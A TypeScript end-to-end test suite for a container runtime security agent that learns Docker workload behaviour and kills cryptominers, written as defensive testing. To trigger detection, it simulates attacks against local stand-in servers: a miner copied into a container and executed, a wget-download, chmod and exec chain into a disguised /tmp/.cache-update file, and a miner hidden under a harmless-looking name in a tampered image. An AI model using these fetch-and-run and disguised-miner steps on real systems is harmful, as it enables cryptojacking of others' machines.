/**
 * The runtime agent end to end, on the real Docker Engine with the eBPF sensor: a benign workload is learned and
 * switches to enforcing on its own, then stays silent; a miner exec'd into it, or downloaded into it and started,
 * is killed in prevent mode before it completes its stratum login; the same miner present from the first second
 * of a tampered image is caught by the poisoning rules and never learned; an agent restart keeps profile and mode,
 * and an image change starts relearning.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { promisify } from 'node:util';
import { startAgent, type AgentProcess } from '../helpers/agent-process.ts';
import { dockerUnavailable, removeImage } from '../helpers/image-builder.ts';
import { runCli, tempHome } from '../helpers/run-cli.ts';
import { benignWorkloadScript, buildWorkloadImage, removeContainer, stratumWorkerBinary } from '../helpers/runtime-workloads.ts';
import { startStratumPool, type StratumPool } from '../helpers/stratum-pool.ts';

const run = promisify(execFile);
const dockerSkip = await dockerUnavailable();
const ebpfSkip = process.getuid?.() === 0 ? false : 'the eBPF sensor needs root';
const skip = dockerSkip || ebpfSkip;

const suffix = `${process.pid}`;
const image = `nomine-enforce-workload:${suffix}`;
const imageV2 = `nomine-enforce-workload:${suffix}-v2`;
const tamperedImage = `nomine-enforce-tampered:${suffix}`;
const workload = `nomine-enforce-web-${suffix}`;
const tampered = `nomine-enforce-tampered-${suffix}`;
// Container names ending in -NUMBER are replicas of one workload: the profile is named without the suffix.
const workloadKey = 'container:nomine-enforce-web';
const tamperedKey = 'container:nomine-enforce-tampered';
const minerInImage = '/usr/local/bin/kv-compactd';

async function docker(...args: string[]): Promise<{ stdout: string; code: number }> {
  try {
    const { stdout } = await run('docker', args, { maxBuffer: 8 << 20 });
    return { stdout, code: 0 };
  } catch (error) {
    const failure = error as { code?: number; stdout?: string };
    return { stdout: failure.stdout ?? '', code: typeof failure.code === 'number' ? failure.code : -1 };
  }
}

describe('nomine agent run (eBPF, Docker)', { skip, timeout: 300_000 }, () => {
  let home: string;
  let alertsFile: string;
  let pool: StratumPool;
  let upstream: Server;
  let upstreamPort: number;
  let agent: AgentProcess;
  let minerBytes: Buffer;
  const metricsToken = 'metrics-token-for-the-e2e-test';
  const agentArgs = () => ['run', '--metrics', '127.0.0.1:0', '--metrics-token-file', join(home, 'metrics-token'), '--learning-min', '4s', '--learning-quiet', '2s', '--mode', 'prevent', '--cpu-interval', '1000', '--alerts', alertsFile, '--status-interval', '500'];

  before(async () => {
    home = await tempHome('nomine-enforce-');
    alertsFile = join(home, 'alerts.jsonl');
    minerBytes = await readFile(await stratumWorkerBinary());
    await Promise.all([buildWorkloadImage(image), buildWorkloadImage(tamperedImage, { minerAt: minerInImage })]);
    pool = await startStratumPool('127.0.0.2', 3333);
    // The workload's backend, which also serves the miner an attacker downloads.
    upstream = createServer((request, response) => response.end(request.url === '/kworker' ? minerBytes : 'ok\n'));
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.3', resolve));
    upstreamPort = (upstream.address() as { port: number }).port;
    await writeFile(join(home, 'metrics-token'), `${metricsToken}\n`, { mode: 0o600 });
    agent = startAgent(agentArgs(), home);
    await agent.waitForLog(/sensor ebpf started/, 60_000);
  });

  after(async () => {
    await agent?.stop();
    for (const name of [workload, tampered]) await removeContainer(name);
    for (const name of [image, imageV2, tamperedImage]) await removeImage(name);
    await pool?.close();
    await new Promise((resolve) => upstream?.close(resolve));
    if (home) await rm(home, { recursive: true, force: true });
  });

  const alertsFor = async (container: string) => (await agent.alerts(alertsFile)).filter((alert) => alert.entity.name === container);

  it('learns a benign workload, switches it to enforcing on its own, and raises no alert in steady state', async () => {
    await docker('run', '-d', '--name', workload, '--network', 'host', image, ...benignWorkloadScript({ httpPort: 18000 + (process.pid % 1000), upstream: `127.0.0.3:${upstreamPort}` }));
    const enforcing = await agent.waitForLog(new RegExp(`profile (wl-[0-9a-f]+) \\(${workloadKey}\\) is now enforcing`), 60_000);
    const steadyFrom = Date.now();
    await sleep(6000);
    const noisy = (await alertsFor(workload)).filter((alert) => alert.lastAt >= steadyFrom);
    assert.deepEqual(noisy.map((alert) => alert.message), [], 'no alerts in steady state');
    const list = await runCli(['profile', 'show', enforcing[1]!, '--json'], { home });
    const { profile } = JSON.parse(list.stdout);
    assert.equal(profile.phase, 'enforcing');
    assert.equal(profile.mode, 'prevent');
    // busybox applets run as /bin/busybox (re-exec through /proc/self/exe): the profile holds the real file.
    assert.ok(profile.allow.processes.some((p: { exe: string }) => p.exe === '/bin/busybox'), JSON.stringify(profile.allow.processes));
    assert.ok(profile.allow.egress.some((e: { address: string; port: number }) => e.address.startsWith('127.0.0.3') && e.port === upstreamPort), 'the backend was learned');
    assert.ok(profile.allow.syscalls.length > 10, 'syscalls were learned');
    // The running agent's counters, as `nomine agent status` shows them.
    const status = await runCli(['agent', 'status', '--json'], { home });
    assert.equal(status.code, 0, status.stderr);
    const counters = JSON.parse(status.stdout);
    assert.equal(counters.sensor.name, 'ebpf');
    assert.ok(counters.events.processed > 0 && counters.profiles.enforcing >= 1, status.stdout);
    assert.equal(typeof counters.queue.dropped, 'number');
    const [, metricsUrl] = agent.log().match(/metrics on (http:\S+)/) ?? [];
    assert.ok(metricsUrl, 'the agent said where its metrics are');
    assert.equal((await fetch(metricsUrl)).status, 401, 'metrics need the token');
    const scraped = await (await fetch(metricsUrl, { headers: { authorization: `Bearer ${metricsToken}` } })).text();
    assert.match(scraped, /nomine_agent_events_processed\{type="exec"\} [1-9]/);
    assert.match(scraped, /nomine_agent_profiles\{phase="enforcing"\} [1-9]/);
    assert.match(scraped, /nomine_agent_queue_capacity 65536/);
    const table = await runCli(['agent', 'status'], { home });
    assert.match(table.stdout, /sensor ebpf .*\n.*queue \d+\/65536/);
  });

  it('exports the learned profile as policies; the workload still runs under its seccomp profile', async () => {
    const seccompFile = join(home, 'seccomp.json');
    const exported = await runCli(['profile', 'export', workloadKey, '--format', 'seccomp', '-o', seccompFile], { home });
    assert.equal(exported.code, 0, exported.stderr);
    const underProfile = await docker('run', '--rm', '--network', 'host', '--security-opt', `seccomp=${seccompFile}`, image, 'sh', '-c', `wget -q -O /tmp/last.html http://127.0.0.3:${upstreamPort}/ && echo fetched >> /var/log/app.log && cat /tmp/last.html`);
    assert.equal(underProfile.code, 0, 'the learned workload runs under its own seccomp profile');
    assert.match(underProfile.stdout, /ok/);
    const dir = join(home, 'policies');
    const all = await runCli(['profile', 'export', '--all', dir], { home });
    assert.equal(all.code, 0, all.stderr);
    const kustomization = await readFile(join(dir, 'kustomization.yaml'), 'utf8');
    assert.match(kustomization, /resources:/);
    const unknown = await runCli(['profile', 'export', workloadKey, '--format', 'iptables'], { home });
    assert.equal(unknown.code, 2);
    assert.match(unknown.stderr, /unknown policy format "iptables"; known formats: seccomp/);
  });

  it('kills a miner exec\'d into the enforcing workload before its stratum login, and says why', async () => {
    const loginsBefore = pool.logins.length;
    const started = Date.now();
    await run('docker', ['cp', await stratumWorkerBinary(), `${workload}:/tmp/kworker`]);
    const exec = await docker('exec', workload, '/tmp/kworker', '-o', pool.url, '--seconds', '5');
    assert.equal(exec.code, 137, `the miner was killed (exit ${exec.code}, output ${exec.stdout})`);
    assert.equal(pool.logins.length, loginsBefore, 'the miner never completed its stratum login');
    await sleep(1500);
    const alerts = (await alertsFor(workload)).filter((a) => a.lastAt >= started);
    const drift = alerts.find((a) => a.seen.includes('/tmp/kworker') && a.rule === 'drift');
    assert.ok(drift, `a drift alert for /tmp/kworker: ${JSON.stringify(alerts)}`);
    assert.match(drift.message, /not part of the image/);
    // Whoever was first — the kernel at connect, or the agent at exec — the alerts say the miner was killed.
    assert.ok(alerts.some((a) => a.action.taken === 'killed' && (a.seen.includes('kworker') || a.rule === 'mining-pool')), JSON.stringify(alerts.map((a) => [a.rule, a.action])));
    // The exec gate looked at the exec before the queue: prevent mode's fast path was on the miner's way.
    const status = JSON.parse(await readFile(join(home, 'agent', 'status.json'), 'utf8')) as { execGate?: { inspected: number } };
    assert.ok((status.execGate?.inspected ?? 0) >= 1, `the exec gate inspected the exec: ${JSON.stringify(status.execGate)}`);
  });

  it('kills a miner downloaded into the workload and started, before its stratum login', async () => {
    const loginsBefore = pool.logins.length;
    const started = Date.now();
    const exec = await docker('exec', workload, 'sh', '-c', `wget -q -O /tmp/.cache-update http://127.0.0.3:${upstreamPort}/kworker && chmod +x /tmp/.cache-update && exec /tmp/.cache-update -o ${pool.url} --seconds 5`);
    assert.equal(exec.code, 137, `the downloaded miner was killed (exit ${exec.code})`);
    assert.equal(pool.logins.length, loginsBefore, 'the downloaded miner never completed its stratum login');
    await sleep(1500);
    const alerts = await alertsFor(workload);
    assert.ok(alerts.some((a) => a.seen.includes('/tmp/.cache-update') && a.rule === 'drift'), JSON.stringify(alerts.map((a) => a.message)));
    // The pool connect aggregates with the previous test's alert (same workload, same pool): its count grows.
    assert.ok(alerts.some((a) => a.rule === 'mining-pool' && a.action.taken === 'killed'), JSON.stringify(alerts.map((a) => [a.rule, a.action])));
    void started;
  });

  it('catches a miner present from the first second of a tampered image by the poisoning rules, and never learns it', async () => {
    const loginsBefore = pool.logins.length;
    await docker('run', '-d', '--name', tampered, '--network', 'host', tamperedImage, 'sh', '-c', `${minerInImage} -o ${pool.url} --seconds 20 & while :; do wget -q -O /tmp/last.html http://127.0.0.3:${upstreamPort}/; sleep 0.3; done`);
    const created = await agent.waitForLog(new RegExp(`profile (wl-[0-9a-f]+) for ${tamperedKey} `), 30_000);
    await sleep(4000);
    const alerts = await alertsFor(tampered);
    const poisoning = alerts.filter((a) => a.phase === 'learning');
    assert.ok(poisoning.some((a) => a.rule === 'mining-pool' || a.rule === 'miner-executable'), `poisoning alerts while learning: ${JSON.stringify(alerts.map((a) => `${a.rule}: ${a.message}`))}`);
    assert.equal(pool.logins.length, loginsBefore, 'the tampered image\'s miner never logged in');
    const shown = await runCli(['profile', 'show', created[1]!, '--json'], { home });
    const { profile } = JSON.parse(shown.stdout);
    assert.ok(!profile.allow.processes.some((p: { exe: string }) => p.exe === minerInImage), 'the miner was not learned');
    assert.ok(!profile.allow.egress.some((e: { port: number }) => e.port === 3333), 'the pool was not learned');
  });

  it('keeps profiles and modes across an agent restart, and relearns when the image changes', async () => {
    await agent.stop();
    agent = startAgent(agentArgs(), home);
    await agent.waitForLog(/sensor ebpf started/, 60_000);
    await agent.waitForLog(new RegExp(`profile (wl-[0-9a-f]+) .*${workloadKey}`), 30_000).catch(() => undefined);
    const listed = JSON.parse((await runCli(['profile', 'list', '--json'], { home })).stdout) as { key: { workload: string }; phase: string; mode: string }[];
    const kept = listed.find((p) => p.key.workload === workloadKey);
    assert.equal(kept?.phase, 'enforcing');
    assert.equal(kept?.mode, 'prevent');
    assert.doesNotMatch(agent.log(), new RegExp(`${workloadKey} \\(.*\\): learning`), 'the restarted agent did not start learning the workload again');

    await removeContainer(workload);
    await buildWorkloadImage(imageV2, { cmd: ['sleep', '3600'] });
    await docker('run', '-d', '--name', workload, '--network', 'host', imageV2, 'sh', '-c', 'while :; do sleep 0.5; done');
    await agent.waitForLog(new RegExp(`${workloadKey} .*learning again: the image changed, mode prevent`), 30_000);
  });
});

/**
 * The same story with the /proc sensor, where it can work: it learns and enforces a benign workload (no syscall
 * data: /proc has none) and catches a dropped miner as drift and kills it — but polling cannot promise the kill
 * lands before the miner's first packet, so the pool's logins are not asserted here.
 */
describe('nomine agent run (/proc sensor, Docker)', { skip: dockerSkip, timeout: 240_000 }, () => {
  let home: string;
  let alertsFile: string;
  let pool: StratumPool;
  let agent: AgentProcess;
  const procImage = `nomine-enforce-procfs:${suffix}`;
  const container = `nomine-enforce-procfs-${suffix}`;

  before(async () => {
    home = await tempHome('nomine-enforce-procfs-');
    alertsFile = join(home, 'alerts.jsonl');
    await buildWorkloadImage(procImage);
    pool = await startStratumPool('127.0.0.5', 3333);
    agent = startAgent(['run', '--sensor', 'procfs', '--poll-ms', '100', '--learning-min', '4s', '--learning-quiet', '2s', '--mode', 'prevent', '--cpu-interval', '1000', '--alerts', alertsFile], home);
    await agent.waitForLog(/sensor procfs started/, 30_000);
  });

  after(async () => {
    await agent?.stop();
    await removeContainer(container);
    await removeImage(procImage);
    await pool?.close();
    if (home) await rm(home, { recursive: true, force: true });
  });

  it('learns and enforces a benign workload, stays silent, and kills a dropped miner as drift', async () => {
    // A long-lived workload: polling sees processes that live longer than a poll.
    await docker('run', '-d', '--name', container, '--network', 'none', procImage, 'sh', '-c', 'while :; do echo tick >> /var/log/app.log; sleep 1; done');
    await agent.waitForLog(/profile (wl-[0-9a-f]+) \(container:nomine-enforce-procfs\) is now enforcing/, 60_000);
    const steadyFrom = Date.now();
    await sleep(4000);
    const mine = async () => (await agent.alerts(alertsFile)).filter((alert) => alert.entity.name === container);
    assert.deepEqual((await mine()).filter((alert) => alert.lastAt >= steadyFrom).map((alert) => alert.message), []);

    await run('docker', ['cp', await stratumWorkerBinary(), `${container}:/tmp/kworker`]);
    // Hashing for a while first, as real miners initialise their dataset: long enough for a poll to see it.
    const exec = await docker('exec', container, '/tmp/kworker', '--warmup-ms', '3000', '-o', pool.url, '--seconds', '5');
    assert.equal(exec.code, 137, 'the miner was killed');
    await sleep(1000);
    const drift = (await mine()).find((alert) => alert.rule === 'drift' && alert.seen.includes('/tmp/kworker'));
    assert.ok(drift, JSON.stringify(await mine()));
    assert.equal(drift.action.taken, 'killed');
  });
});
